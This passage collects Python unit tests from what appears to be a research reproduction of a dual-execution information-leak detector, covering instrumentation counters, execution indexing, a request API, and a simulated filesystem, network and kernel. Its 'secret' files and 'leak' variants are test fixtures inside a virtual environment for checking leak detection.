    report = CausalityReport()
    report.syscall_diffs = 4
    report.add(detection(SINK_ARGS_DIFFER))  # aligned: not a sequence diff
    report.add(detection(SINK_MISSING_IN_SLAVE))
    report.add(detection(SINK_ONLY_IN_SLAVE))
    assert report.sequence_diffs == 6


def test_detection_repr_mentions_kind_and_location():
    d = detection(SINK_ARGS_DIFFER)
    assert "sink-args-differ" in repr(d)
    assert "main" in repr(d)
