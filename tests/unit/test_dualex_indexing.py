"""Unit tests for the DualEx execution-indexing tracker."""

from repro.baselines.dualex.indexing import (
    IndexTracker,
    immediate_postdominators,
)
from repro.baselines.native import run_native
from repro.interp.events import BarrierEvent, SyscallEvent
from repro.interp.machine import Machine
from repro.interp.resolve import resolve_event_locally
from repro.ir import compile_source
from repro.vos.kernel import Kernel
from repro.vos.world import World


def trace_indices(source, world=None):
    """Run a program, returning the execution index of each syscall."""
    module = compile_source(source)
    machine = Machine(module, Kernel(world or World(seed=1)))
    tracker = IndexTracker()
    tracker.attach(machine)
    indices = []
    while True:
        event = machine.next_event()
        if event is None:
            break
        if isinstance(event, SyscallEvent):
            indices.append(
                (tracker.index_of(event.thread_id, event.index), event.name)
            )
        resolve_event_locally(machine, event)
    return indices


def test_postdominators_of_diamond():
    module = compile_source(
        "fn main() { var x = 1; if (x > 0) { x = 2; } else { x = 3; } print(x); }"
    )
    main = module.functions["main"]
    postdoms = immediate_postdominators(main)
    # Every node's ipostdom chain reaches the exit.
    node = main.entry
    steps = 0
    while node != main.exit and steps < 100:
        node = postdoms[node]
        steps += 1
    assert node == main.exit


def test_same_program_same_indices():
    source = """
    fn main() {
      var x = 2;
      if (x > 1) { print("a"); } else { print("b"); }
      print("end");
    }
    """
    assert trace_indices(source) == trace_indices(source)


def test_loop_iterations_get_distinct_indices():
    source = """
    fn main() {
      for (var i = 0; i < 3; i = i + 1) { print(i); }
    }
    """
    indices = [index for index, _ in trace_indices(source)]
    assert len(indices) == 3
    assert len(set(indices)) == 3  # iteration counts disambiguate


def test_divergent_branches_get_different_indices():
    base = """
    fn main() {{
      var x = {value};
      if (x > 5) {{ print("hi"); }} else {{ print("lo"); }}
    }}
    """
    high = trace_indices(base.format(value=9))
    low = trace_indices(base.format(value=1))
    # Same branch site but recorded at different nodes -> different index.
    assert high != low


def test_recursion_depth_in_index():
    source = """
    fn f(n) {
      if (n == 0) { print("base"); return 0; }
      return f(n - 1);
    }
    fn main() { f(2); }
    """
    indices = [index for index, _ in trace_indices(source)]
    assert len(indices) == 1
    # The call chain appears in the index (two call entries + branches).
    call_entries = [part for part in indices[0] if part[0] == "call"]
    assert len(call_entries) == 3  # main->f, f->f, f->f
