"""Unit tests for the serve wire format (parsing + canonical payloads)."""

import json

import pytest

from repro.serve import api


def _workload_payload(**overrides):
    payload = {"id": "r1", "workload": "gzip", "variant": "leak"}
    payload.update(overrides)
    return payload


def _source_payload(**overrides):
    payload = {
        "id": "r2",
        "source": "fn main() { return 0; }",
        "world": {"stdin": "x", "files": {"/etc/secret": "s"}},
        "sources": {"files": ["/etc/secret"]},
        "sinks": "network",
    }
    payload.update(overrides)
    return payload


# -- parsing -------------------------------------------------------------------


def test_workload_request_parses():
    request = api.parse_request(_workload_payload())
    assert request.workload == "gzip"
    assert request.variant == "leak"
    assert request.source is None


def test_source_request_parses():
    request = api.parse_request(_source_payload())
    assert request.source.startswith("fn main")
    assert request.world_spec["files"] == {"/etc/secret": "s"}


def test_json_string_and_bytes_accepted():
    text = json.dumps(_workload_payload())
    assert api.parse_request(text).workload == "gzip"
    assert api.parse_request(text.encode()).workload == "gzip"


def test_invalid_json_is_diagnosed():
    with pytest.raises(api.RequestError, match="not valid JSON"):
        api.parse_request("{nope")


def test_missing_id_rejected():
    with pytest.raises(api.RequestError, match="'id'"):
        api.parse_request({"workload": "gzip"})


def test_unknown_keys_rejected():
    with pytest.raises(api.RequestError, match="unknown request keys"):
        api.parse_request(_workload_payload(bogus=1))


def test_unknown_variant_rejected():
    with pytest.raises(api.RequestError, match="unknown variant"):
        api.parse_request(_workload_payload(variant="nope"))


def test_neither_workload_nor_source_rejected():
    with pytest.raises(api.RequestError, match="either 'workload' or 'source'"):
        api.parse_request({"id": "r"})


def test_oversized_source_rejected_before_compiling():
    huge = "x" * (api.MAX_SOURCE_BYTES + 1)
    with pytest.raises(api.RequestError, match="oversized"):
        api.parse_request(_source_payload(source=huge))


def test_bad_deadline_rejected():
    with pytest.raises(api.RequestError, match="deadline"):
        api.parse_request(_workload_payload(deadline=-1))
    with pytest.raises(api.RequestError, match="deadline"):
        api.parse_request(_workload_payload(deadline="soon"))


def test_bad_fault_rate_rejected():
    with pytest.raises(api.RequestError, match="fault_rate"):
        api.parse_request(_workload_payload(fault_rate=1.5))


def test_world_mappings_must_be_string_to_string():
    with pytest.raises(api.RequestError, match="world.files"):
        api.parse_request(_source_payload(world={"files": {"/x": 3}}))
    with pytest.raises(api.RequestError, match="unknown world keys"):
        api.parse_request(_source_payload(world={"bogus": {}}))


def test_bad_config_spec_rejected_at_admission():
    with pytest.raises(api.RequestError):
        api.parse_request(_source_payload(sources={"bogus": True}))
    with pytest.raises(api.RequestError):
        api.parse_request(_source_payload(mutation="not-a-strategy"))


# -- identity ------------------------------------------------------------------


def test_module_key_stable_and_distinct():
    a = api.parse_request(_workload_payload()).module_key()
    assert a == api.parse_request(_workload_payload()).module_key()
    b = api.parse_request(_workload_payload(workload="bzip2")).module_key()
    assert a != b
    s1 = api.parse_request(_source_payload()).module_key()
    s2 = api.parse_request(_source_payload()).module_key()
    assert s1 == s2
    s3 = api.parse_request(
        _source_payload(source="fn main() { return 1; }")
    ).module_key()
    assert s1 != s3


def test_module_key_covers_world_spec():
    base = api.parse_request(_source_payload()).module_key()
    other = api.parse_request(
        _source_payload(world={"stdin": "different"})
    ).module_key()
    assert base != other


# -- responses -----------------------------------------------------------------


def test_error_response_shape_and_encode_determinism():
    response = api.error_response("r1", api.STATUS_OVERLOADED, "queue full",
                                  retry_after=1.0)
    assert response["status"] == "overloaded"
    assert response["protocol"] == api.PROTOCOL
    assert api.encode(response) == api.encode(json.loads(api.encode(response)))


def test_verdict_payload_is_pure_and_excludes_timing():
    from repro.core import run_dual
    from repro.workloads import get_workload

    workload = get_workload("gzip")
    result = run_dual(
        workload.instrumented, workload.build_world(1), workload.leak_variant()
    )
    payload = api.verdict_payload(result)
    again = api.verdict_payload(result)
    assert json.dumps(payload, sort_keys=True) == json.dumps(again, sort_keys=True)
    assert "dual_time" not in payload
    assert payload["causality"] is True


def test_ok_response_carries_degradation():
    from repro.core import run_dual
    from repro.workloads import get_workload

    workload = get_workload("gzip")
    result = run_dual(
        workload.instrumented, workload.build_world(1), workload.leak_variant()
    )
    response = api.ok_response("r1", result, timing={"service_s": 0.1})
    assert response["status"] == api.STATUS_OK
    assert response["degradation"]["confidence"] == "full"
    assert response["timing"]["service_s"] == 0.1
    json.dumps(response)  # must be JSON-serializable as-is
