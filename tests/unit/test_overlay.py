"""Unit tests for the copy-on-write overlay filesystem.

The generic VirtualFS behaviour (paths, listdir, rename, normalize) is
covered by test_vos.py; these tests target the overlay mechanics —
layer sharing, tombstones, copy-up, delta/apply_delta — and the
isolation invariant cloning exists for.
"""

from repro.vos.filesystem import VirtualFS


def populated():
    fs = VirtualFS()
    fs.add_file("/etc/conf", "base-conf", mtime=5)
    fs.add_file("/data/a", "alpha")
    fs.add_file("/data/b", "beta")
    fs.mkdir("/empty")
    return fs


# -- layer sharing and isolation ----------------------------------------------


def test_clone_shares_base_without_copying():
    fs = populated()
    clone = fs.clone()
    # Same underlying VirtualFile object until someone writes.
    assert clone.read_file("/data/a") is fs.read_file("/data/a")
    # A mutable handle forces a private copy-up.
    assert clone.file("/data/a") is not fs.read_file("/data/a")


def test_writes_after_clone_are_invisible_both_ways():
    fs = populated()
    clone = fs.clone()
    fs.file("/data/a").content = "master-write"
    clone.file("/data/b").content = "slave-write"
    clone.add_file("/data/new", "slave-only")
    fs.unlink("/etc/conf")
    assert clone.read_file("/data/a").content == "alpha"
    assert fs.read_file("/data/b").content == "beta"
    assert not fs.exists("/data/new")
    assert clone.read_file("/etc/conf").content == "base-conf"


def test_original_stays_usable_after_multiple_clones():
    fs = populated()
    clones = [fs.clone() for _ in range(3)]
    fs.add_file("/data/c", "gamma")
    for clone in clones:
        assert not clone.exists("/data/c")
        assert clone.paths() == ["/data/a", "/data/b", "/etc/conf"]
    assert "/data/c" in fs.paths()


def test_empty_top_reuse_bounds_layer_depth():
    """Cloning without intervening writes must not stack empty layers
    (a benchmark loop would otherwise deepen lookups per iteration)."""
    fs = populated()
    first = fs.clone()
    depth_after_first = fs.depth
    for _ in range(50):
        fs.clone()
    assert fs.depth == depth_after_first
    assert first.depth == depth_after_first


def test_tombstone_hides_base_file_and_recreation_wins():
    fs = populated()
    clone = fs.clone()
    clone.unlink("/data/a")
    assert not clone.exists("/data/a")
    assert "/data/a" not in clone.paths()
    assert clone.listdir("/data") == ["b"]
    # Re-creating the deleted path replaces the tombstone.
    clone.add_file("/data/a", "reborn")
    assert clone.read_file("/data/a").content == "reborn"
    # The base never noticed any of it.
    assert fs.read_file("/data/a").content == "alpha"


def test_unlink_dir_tombstone_across_layers():
    fs = populated()
    clone = fs.clone()
    assert clone.unlink("/empty")
    assert not clone.is_dir("/empty")
    assert fs.is_dir("/empty")
    # A deleted directory can be re-made in the overlay.
    assert clone.mkdir("/empty")
    assert clone.is_dir("/empty")


def test_rename_from_base_layer():
    fs = populated()
    clone = fs.clone()
    assert clone.rename("/data/a", "/data/moved")
    assert clone.read_file("/data/moved").content == "alpha"
    assert not clone.exists("/data/a")
    assert fs.read_file("/data/a").content == "alpha"
    assert not fs.exists("/data/moved")


def test_read_file_never_copies_up():
    fs = populated()
    clone = fs.clone()
    clone.read_file("/data/a")
    clone.read_file("/etc/conf")
    assert clone.delta()["files"] == {}
    # file() does copy up — that is the point of the split.
    clone.file("/data/a")
    assert "/data/a" in clone.delta()["files"]


def test_deep_clone_matches_overlay_view():
    fs = populated()
    overlay = fs.clone()
    overlay.file("/data/a").content = "edited"
    overlay.unlink("/data/b")
    overlay.add_file("/fresh/x", "new")
    deep = overlay.deep_clone()
    assert deep.paths() == overlay.paths()
    for path in overlay.paths():
        assert deep.read_file(path).content == overlay.read_file(path).content
    assert deep.depth == 1
    # And the deep copy is fully detached.
    deep.file("/data/a").content = "detached"
    assert overlay.read_file("/data/a").content == "edited"


def test_flatten_collapses_chain_preserving_content():
    fs = populated()
    overlay = fs.clone()
    overlay.file("/data/a").content = "edited"
    another = overlay.clone()
    another.unlink("/data/b")
    before_paths = another.paths()
    before = {p: another.read_file(p).content for p in before_paths}
    assert another.depth > 1
    another.flatten()
    assert another.depth == 1
    assert another.paths() == before_paths
    assert {p: another.read_file(p).content for p in before_paths} == before
    # Flattening must not touch the shared base.
    assert fs.read_file("/data/a").content == "alpha"
    assert overlay.read_file("/data/b").content == "beta"


# -- checkpoint delta ----------------------------------------------------------


def test_delta_roundtrip_onto_fresh_build():
    fs = populated()
    work = fs.clone()
    work.file("/etc/conf").content = "edited"
    work.add_file("/log/out", "line1")
    work.unlink("/data/b")
    work.unlink("/empty")
    delta = work.delta()

    rebuilt = populated()
    rebuilt.apply_delta(delta)
    assert rebuilt.paths() == work.paths()
    for path in work.paths():
        assert rebuilt.read_file(path).content == work.read_file(path).content
        assert rebuilt.read_file(path).mtime == work.read_file(path).mtime
    assert not rebuilt.exists("/data/b")
    assert not rebuilt.is_dir("/empty")


def test_delta_of_unclosed_tree_is_idempotent():
    """A never-cloned tree's delta is its whole content; applying it to
    an identically built tree must be a no-op in observable state."""
    fs = populated()
    delta = fs.delta()
    twin = populated()
    twin.apply_delta(delta)
    assert twin.paths() == fs.paths()
    for path in fs.paths():
        assert twin.read_file(path).content == fs.read_file(path).content


def test_delta_nested_tombstones_apply_deepest_first():
    fs = VirtualFS()
    fs.add_file("/a/b/c", "x")
    work = fs.clone()
    work.unlink("/a/b/c")
    work.unlink("/a/b")
    work.unlink("/a")
    rebuilt = VirtualFS()
    rebuilt.add_file("/a/b/c", "x")
    rebuilt.apply_delta(work.delta())
    assert not rebuilt.exists("/a")
    assert rebuilt.paths() == []


def test_delta_is_picklable():
    import pickle

    fs = populated()
    work = fs.clone()
    work.add_file("/x", "y")
    thawed = pickle.loads(pickle.dumps(work.delta()))
    rebuilt = populated()
    rebuilt.apply_delta(thawed)
    assert rebuilt.read_file("/x").content == "y"
