"""Unit tests for the LDX counter instrumentation (Algorithms 1 and 3)."""

import random

import pytest

from repro.instrument import CounterAdd, LoopSync, instrument_module
from repro.instrument.pipeline import compute_may_reach_syscall
from repro.cfg.callgraph import CallGraph
from repro.ir import compile_source
from repro.ir import instructions as ins


def instrument(source):
    return instrument_module(compile_source(source))


def walk_counter(instrumented, name, rng, max_steps=2000):
    """Randomly walk one function applying edge actions; assert that the
    counter on arrival always equals the static counter_at value."""
    module = instrumented.module
    plan = instrumented.plan.functions[name]
    function = module.functions[name]
    cnt = 0
    node = function.entry
    for _ in range(max_steps):
        instr = function.instrs[node]
        if (
            isinstance(instr, ins.CallDirect)
            and node not in plan.scoped_calls
        ):
            cnt += instrumented.plan.fcnt.get(instr.func, 0)
        succs = function.successors(node)
        if not succs:
            return cnt
        dst = succs[rng.randrange(len(succs))]
        actions = plan.actions_for(node, dst) or []
        for action in actions:
            if isinstance(action, CounterAdd):
                cnt += action.delta
        if dst in plan.counter_at:
            assert cnt == plan.counter_at[dst], (
                f"{name}: arrived at @{dst} with cnt={cnt}, "
                f"expected {plan.counter_at[dst]}"
            )
        node = dst
    return cnt


def test_straight_line_two_syscalls_fcnt():
    inst = instrument(
        """
        fn main() {
          var a = read(0, 4);
          var b = read(0, 4);
        }
        """
    )
    assert inst.plan.functions["main"].fcnt == 2


def test_branches_compensated_to_max():
    inst = instrument(
        """
        fn main() {
          var x = read(0, 4);
          if (x == "a") {
            print("one");
            print("two");
          } else {
            print("three");
          }
          print("done");
        }
        """
    )
    plan = inst.plan.functions["main"]
    # max syscalls along a path: read + 2 prints + final print = 4
    assert plan.fcnt == 4
    # The lighter (else) path must receive a compensation.
    deltas = [
        action.delta
        for actions in plan.actions.values()
        for action in actions
        if isinstance(action, CounterAdd)
    ]
    assert any(delta > 1 for delta in deltas) or deltas.count(1) > 4


def test_random_walks_reach_consistent_counters():
    source = """
    fn helper(x) {
      if (x > 0) { print("pos"); } else { print("neg"); print("extra"); }
      return x;
    }
    fn main() {
      var x = read(0, 4);
      if (x == "a") { helper(1); } else { print("b"); }
      var i = 0;
      while (i < 3) { print(i); i = i + 1; }
      print("end");
    }
    """
    inst = instrument(source)
    rng = random.Random(7)
    for _ in range(50):
        walk_counter(inst, "main", rng)
        walk_counter(inst, "helper", rng)


def test_paper_figure2_fcnt_values():
    # Mirrors the structure of Fig. 2: SRaise has 2 syscalls; MRaise
    # calls SRaise then conditionally writes (compensated to 3).
    source = """
    fn SRaise(file) {
      var f = open(file, "r");
      var rate = read(f, 8);
      return len(rate);
    }
    fn MRaise(age) {
      var r = SRaise("mcontract");
      if (age > 1) {
        write(1, "senior");
      }
      return r;
    }
    fn main() {
      var name = read(0, 8);
      var title = read(0, 8);
      var raise = 0;
      if (title == "STAFF") {
        raise = SRaise("contract");
      } else {
        raise = MRaise(2);
        var dept = read(0, 8);
        raise = raise + len(dept);
      }
      send(1, name);
      send(1, raise);
    }
    """
    inst = instrument(source)
    assert inst.plan.fcnt["SRaise"] == 2
    assert inst.plan.fcnt["MRaise"] == 3
    # main: 2 reads + max(SRaise=2, MRaise+read=4) + 2 sends = 8
    assert inst.plan.functions["main"].fcnt == 8
    # The true (STAFF) branch is lighter by 2: expect a +2 compensation.
    deltas = [
        action.delta
        for actions in inst.plan.functions["main"].actions.values()
        for action in actions
        if isinstance(action, CounterAdd)
    ]
    assert 2 in deltas


def test_loop_with_syscall_gets_barrier_and_reset():
    inst = instrument(
        """
        fn main() {
          var i = 0;
          while (i < 5) {
            print(i);
            i = i + 1;
          }
          print("end");
        }
        """
    )
    plan = inst.plan.functions["main"]
    assert len(plan.barrier_loops) == 1
    syncs = [
        action
        for actions in plan.actions.values()
        for action in actions
        if isinstance(action, LoopSync)
    ]
    assert len(syncs) == 1
    # Counter after the loop exceeds counter inside (exit compensation).
    assert plan.fcnt == 2  # one loop iteration's print + final print


def test_loop_without_syscall_not_instrumented():
    inst = instrument(
        """
        fn main() {
          var i = 0;
          var total = 0;
          while (i < 100) { total = total + i; i = i + 1; }
          print(total);
        }
        """
    )
    plan = inst.plan.functions["main"]
    assert plan.barrier_loops == set()
    syncs = [
        action
        for actions in plan.actions.values()
        for action in actions
        if isinstance(action, LoopSync)
    ]
    assert syncs == []


def test_nested_loops_instrumented_like_figure4():
    # Mirrors Fig. 4: outer i-loop with inner j-loop, syscalls inside both.
    source = """
    fn main() {
      var bounds = read(0, 8);
      var n = parse_int(substr(bounds, 0, 1));
      var m = parse_int(substr(bounds, 1, 2));
      for (var i = 0; i < n; i = i + 1) {
        for (var j = 0; j < m; j = j + 1) {
          var v = read(0, 4);
        }
        write(1, i);
      }
      send(1, "done");
    }
    """
    inst = instrument(source)
    plan = inst.plan.functions["main"]
    assert len(plan.barrier_loops) == 2
    syncs = [
        action
        for actions in plan.actions.values()
        for action in actions
        if isinstance(action, LoopSync)
    ]
    assert len(syncs) == 2
    # open/read + one full outer iteration (inner read + write) + send
    assert plan.fcnt == 4


def test_loop_counter_bounded_under_walk():
    source = """
    fn main() {
      var i = 0;
      while (i < 3) {
        print(i);
        var j = 0;
        while (j < 2) { print(j); j = j + 1; }
        i = i + 1;
      }
      print("end");
    }
    """
    inst = instrument(source)
    plan = inst.plan.functions["main"]
    function = inst.module.functions["main"]
    # Simulate real loop execution (follow true branches a fixed number
    # of times) and check the counter never exceeds the static maximum.
    max_cnt = max(plan.counter_at.values())
    rng = random.Random(3)
    final = walk_counter(inst, "main", rng)
    assert final <= max_cnt


def test_recursive_function_calls_are_scoped():
    inst = instrument(
        """
        fn fact(n) {
          if (n <= 1) { return 1; }
          print(n);
          return n * fact(n - 1);
        }
        fn main() { print(fact(4)); }
        """
    )
    assert "fact" in inst.plan.recursive_functions
    fact_plan = inst.plan.functions["fact"]
    assert len(fact_plan.scoped_calls) == 1
    # main's call to fact is also scoped (FCNT[fact] is undefined).
    main_plan = inst.plan.functions["main"]
    assert len(main_plan.scoped_calls) == 1
    # fact is not in the FCNT table.
    assert "fact" not in inst.plan.fcnt


def test_mutually_recursive_calls_are_scoped():
    inst = instrument(
        """
        fn even(n) { if (n == 0) { return 1; } return odd(n - 1); }
        fn odd(n) { if (n == 0) { return 0; } print(n); return even(n - 1); }
        fn main() { even(5); }
        """
    )
    assert inst.plan.recursive_functions == {"even", "odd"}
    assert len(inst.plan.functions["even"].scoped_calls) == 1
    assert len(inst.plan.functions["odd"].scoped_calls) == 1


def test_indirect_calls_are_scoped():
    inst = instrument(
        """
        fn handler(x) { print(x); return 0; }
        fn main() {
          var h = handler;
          h(1);
        }
        """
    )
    assert len(inst.plan.functions["main"].scoped_calls) == 1


def test_may_reach_syscall_fixpoint():
    module = compile_source(
        """
        fn leaf() { return 1; }
        fn sys() { print("x"); }
        fn mid() { sys(); }
        fn top() { mid(); }
        fn pure_chain() { leaf(); }
        fn main() { top(); pure_chain(); }
        """
    )
    reaches = compute_may_reach_syscall(module, CallGraph(module))
    assert {"sys", "mid", "top", "main"} <= reaches
    assert "leaf" not in reaches
    assert "pure_chain" not in reaches


def test_loop_with_call_reaching_syscall_gets_barrier():
    inst = instrument(
        """
        fn emit(x) { print(x); }
        fn main() {
          var i = 0;
          while (i < 3) { emit(i); i = i + 1; }
        }
        """
    )
    assert len(inst.plan.functions["main"].barrier_loops) == 1


def test_loop_with_indirect_call_gets_barrier():
    inst = instrument(
        """
        fn emit(x) { print(x); }
        fn main() {
          var h = emit;
          var i = 0;
          while (i < 3) { h(i); i = i + 1; }
        }
        """
    )
    assert len(inst.plan.functions["main"].barrier_loops) == 1


def test_static_stats_shape():
    inst = instrument(
        """
        fn f(n) { if (n > 0) { print(n); return f(n - 1); } return 0; }
        fn main() {
          var h = f;
          h(2);
          var i = 0;
          while (i < 2) { print(i); i = i + 1; }
        }
        """
    )
    stats = inst.static_stats()
    assert stats["total_instructions"] > 0
    assert stats["instrumented_sites"] > 0
    assert stats["instrumented_loops"] == 1
    assert stats["recursive_functions"] == 1
    assert stats["indirect_call_sites"] == 1
    assert stats["max_static_counter"] >= 1
    assert 0 < stats["instrumented_pct"] < 100


def test_break_exit_edge_compensated():
    source = """
    fn main() {
      var i = 0;
      while (i < 10) {
        if (i == 2) { break; }
        print(i);
        i = i + 1;
      }
      print("after");
    }
    """
    inst = instrument(source)
    plan = inst.plan.functions["main"]
    function = inst.module.functions["main"]
    # Execute the real loop semantics: break leaves after 0 prints of
    # the loop body in the worst case; counters at 'after' print must be
    # identical no matter how the loop exits.
    after_nodes = [
        i
        for i, instr in enumerate(function.instrs)
        if isinstance(instr, ins.Syscall) and i > max(plan.barrier_loops)
    ]
    assert after_nodes
    target = after_nodes[-1]
    assert target in plan.counter_at


def test_return_inside_loop_compensated_to_exit():
    source = """
    fn main() {
      var i = 0;
      while (i < 10) {
        if (i == 2) { return; }
        print(i);
        i = i + 1;
      }
      print("after");
    }
    """
    inst = instrument(source)
    plan = inst.plan.functions["main"]
    function = inst.module.functions["main"]
    exit_node = function.exit
    # All rets compensate onto the same exit counter (= fcnt).
    assert plan.counter_at[exit_node] == plan.fcnt
