"""Unit tests for the virtual OS: filesystem, network, kernel."""

import pytest

from repro.vos.clock import DeterministicRng, VirtualClock
from repro.vos.filesystem import VirtualFS, parent_dir
from repro.vos.kernel import Kernel, ProgramExit
from repro.vos.network import Network
from repro.vos.resources import ResourceTaintMap
from repro.vos.world import World


# -- filesystem ---------------------------------------------------------------


def test_parent_dir():
    assert parent_dir("/a/b/c") == "/a/b"
    assert parent_dir("/a") == "/"
    assert parent_dir("/") == "/"


def test_add_file_creates_parents():
    fs = VirtualFS()
    fs.add_file("/etc/app/config", "x=1")
    assert fs.is_dir("/etc")
    assert fs.is_dir("/etc/app")
    assert fs.is_file("/etc/app/config")


def test_listdir():
    fs = VirtualFS()
    fs.add_file("/d/a", "1")
    fs.add_file("/d/b", "2")
    fs.add_file("/d/sub/c", "3")
    assert fs.listdir("/d") == ["a", "b", "sub"]
    assert fs.listdir("/nope") is None


def test_mkdir_requires_parent():
    fs = VirtualFS()
    assert not fs.mkdir("/a/b")
    assert fs.mkdir("/a")
    assert fs.mkdir("/a/b")
    assert not fs.mkdir("/a")  # already exists


def test_unlink_file_and_empty_dir():
    fs = VirtualFS()
    fs.add_file("/d/f", "x")
    assert fs.unlink("/d/f")
    assert not fs.is_file("/d/f")
    assert fs.unlink("/d")
    assert not fs.unlink("/nope")


def test_unlink_nonempty_dir_fails():
    fs = VirtualFS()
    fs.add_file("/d/f", "x")
    assert not fs.unlink("/d")


def test_rename():
    fs = VirtualFS()
    fs.add_file("/a", "data")
    assert fs.rename("/a", "/b")
    assert fs.file("/b").content == "data"
    assert not fs.is_file("/a")
    assert not fs.rename("/missing", "/c")


def test_clone_is_deep():
    fs = VirtualFS()
    fs.add_file("/a", "original")
    copy = fs.clone()
    copy.file("/a").content = "changed"
    assert fs.file("/a").content == "original"


def test_normalize_resolves_dot_segments():
    fs = VirtualFS()
    fs.add_file("/a/b", "data")
    # All aliases of /a/b resolve to the same file.
    assert fs.file("/a/./b").content == "data"
    assert fs.file("/a/x/../b").content == "data"
    assert fs.file("//a///b").content == "data"
    fs.file("/a/c/../b").content = "rewritten"
    assert fs.file("/a/b").content == "rewritten"
    assert fs.paths() == ["/a/b"]


def test_normalize_clamps_dotdot_at_root():
    fs = VirtualFS()
    fs.add_file("/../../etc/secret", "s")
    assert fs.is_file("/etc/secret")
    assert fs.file("/etc/../../../etc/secret").content == "s"
    assert fs.is_dir("/..")  # clamps to "/"


def test_aliased_write_is_one_file_not_two():
    """The copy-on-divergence regression: an aliased path must not
    create a second file that escapes FS diffing."""
    fs = VirtualFS()
    fs.add_file("/a/../b", "one")
    fs.add_file("/b", "two")
    assert fs.paths() == ["/b"]
    assert fs.file("/b").content == "two"
    clone = fs.clone()
    assert clone.paths() == fs.paths()


def test_listdir_dot_segment_aliases_and_root():
    fs = VirtualFS()
    fs.add_file("/d/a", "1")
    assert fs.listdir("/d/../d") == ["a"]
    assert fs.listdir("/d/a") is None  # a file, not a directory
    assert fs.listdir("/") == ["d"]
    assert VirtualFS().listdir("/") == []


def test_unlink_via_alias_and_root():
    fs = VirtualFS()
    fs.add_file("/d/f", "x")
    assert fs.unlink("/d/./f")
    assert not fs.is_file("/d/f")
    assert fs.unlink("/d/../d")
    assert not fs.unlink("/")  # the root is not removable
    assert not fs.unlink("/..")  # ..-clamped alias of the root


# -- network --------------------------------------------------------------------


def test_connect_to_registered_endpoint():
    net = Network()
    net.register("example.com", 80, lambda req: f"echo:{req}")
    conn = net.connect("example.com", 80)
    assert conn is not None
    conn.send("hello")
    assert conn.recv(100) == "echo:hello"


def test_connect_unknown_address_fails():
    assert Network().connect("nowhere", 1) is None


def test_recv_is_incremental():
    net = Network()
    net.register("h", 1, lambda req: "abcdef")
    conn = net.connect("h", 1)
    conn.send("x")
    assert conn.recv(3) == "abc"
    assert conn.recv(3) == "def"
    assert conn.recv(3) == ""


def test_network_clone_preserves_connections():
    net = Network()
    net.register("h", 1, lambda req: "resp")
    conn = net.connect("h", 1)
    conn.send("a")
    clone = net.clone()
    assert clone.connections[0].sent == ["a"]
    clone.connections[0].send("b")
    assert conn.sent == ["a"]


def _counting_endpoint():
    """A stateful endpoint: each response carries a request counter."""
    count = [0]

    def script(req):
        count[0] += 1
        return f"r{count[0]}:{req};"

    return script


def test_stateful_endpoint_clone_isolation_regression():
    """The clone-isolation bug: a slave send on a cloned network must
    not advance endpoint state the master's later responses depend on.

    Master responses must be identical with and without slave sends.
    """

    def run_master(with_slave_sends):
        net = Network()
        net.register_factory("srv", 1, _counting_endpoint)
        master = net.connect("srv", 1)
        master.send("m1")
        slave_net = net.clone()
        if with_slave_sends:
            slave_net.connections[0].send("s1")
            slave_net.connections[0].send("s2")
        master.send("m2")
        return master.recv(1000)

    assert run_master(False) == run_master(True) == "r1:m1;r2:m2;"


def test_stateful_endpoint_clone_replays_sent_state():
    """The clone's fresh script instance continues from the replayed
    state, not from zero — and past responses are carried verbatim."""
    net = Network()
    net.register_factory("srv", 1, _counting_endpoint)
    conn = net.connect("srv", 1)
    conn.send("a")
    conn.send("b")
    clone = net.clone()
    clone.connections[0].send("c")
    assert clone.connections[0].recv(1000) == "r1:a;r2:b;r3:c;"
    # The original's counter was untouched by the clone's send.
    conn.send("c")
    assert conn.recv(1000) == "r1:a;r2:b;r3:c;"


def test_stateful_endpoint_fresh_instance_per_connection():
    net = Network()
    net.register_factory("srv", 1, _counting_endpoint)
    first = net.connect("srv", 1)
    second = net.connect("srv", 1)
    first.send("x")
    second.send("y")
    assert first.recv(100) == "r1:x;"
    assert second.recv(100) == "r1:y;"


def test_send_recv_after_close_fail():
    net = Network()
    net.register("h", 1, lambda req: "resp")
    conn = net.connect("h", 1)
    conn.send("a")
    conn.closed = True
    assert conn.send("b") is None
    assert conn.recv(10) is None
    assert conn.sent == ["a"]  # the rejected send left no trace


# -- clock / rng ------------------------------------------------------------------


def test_clock_monotonic():
    clock = VirtualClock()
    assert clock.read() < clock.read()


def test_rng_deterministic():
    a = DeterministicRng(5)
    b = DeterministicRng(5)
    assert [a.next_int(100) for _ in range(5)] == [b.next_int(100) for _ in range(5)]


def test_rng_seeds_differ():
    a = DeterministicRng(5)
    b = DeterministicRng(6)
    assert [a.next_int(1000) for _ in range(5)] != [b.next_int(1000) for _ in range(5)]


def test_rng_rejects_bound_above_modulus():
    rng = DeterministicRng(5)
    with pytest.raises(ValueError):
        rng.next_int(DeterministicRng.MODULUS + 1)
    with pytest.raises(ValueError):
        rng.next_int(2**31)
    # The largest satisfiable bound works; the state is untouched by
    # rejected calls, so streams stay reproducible.
    probe = DeterministicRng(5)
    assert rng.next_int(DeterministicRng.MODULUS) == probe.next_int(
        DeterministicRng.MODULUS
    )


def test_rng_small_and_degenerate_bounds():
    rng = DeterministicRng(5)
    assert all(0 <= rng.next_int(1) < 1 for _ in range(5))
    assert all(0 <= rng.next_int(7) < 7 for _ in range(100))


def test_rng_clone_preserves_stream_exactly():
    rng = DeterministicRng(42)
    for _ in range(10):
        rng.next_int(1000)
    clone = rng.clone()
    assert [rng.next_int(1000) for _ in range(20)] == [
        clone.next_int(1000) for _ in range(20)
    ]


def test_rng_clone_survives_pickling():
    """Process-pool workers receive seeds/state by pickling; the
    stream must continue identically on the other side."""
    import pickle

    rng = DeterministicRng(7)
    for _ in range(5):
        rng.next_int(100)
    shipped = pickle.loads(pickle.dumps(rng.clone()))
    assert [rng.next_int(10**6) for _ in range(20)] == [
        shipped.next_int(10**6) for _ in range(20)
    ]


# -- kernel -------------------------------------------------------------------------


def make_kernel():
    world = World(seed=1)
    world.fs.add_file("/data/input.txt", "hello\nworld\n")
    world.stdin = "stdin-content"
    world.env["HOME"] = "/home/user"
    world.network.register("srv", 9, lambda req: f"ok:{req}")
    return Kernel(world)


def test_open_read_close():
    kernel = make_kernel()
    fd = kernel.execute("open", ("/data/input.txt", "r"))
    assert fd >= 3
    assert kernel.execute("read", (fd, 5)) == "hello"
    assert kernel.execute("read", (fd, 100)) == "\nworld\n"
    assert kernel.execute("read", (fd, 10)) == ""
    assert kernel.execute("close", (fd,)) == 0
    assert kernel.execute("close", (fd,)) == -1


def test_open_missing_file_fails():
    kernel = make_kernel()
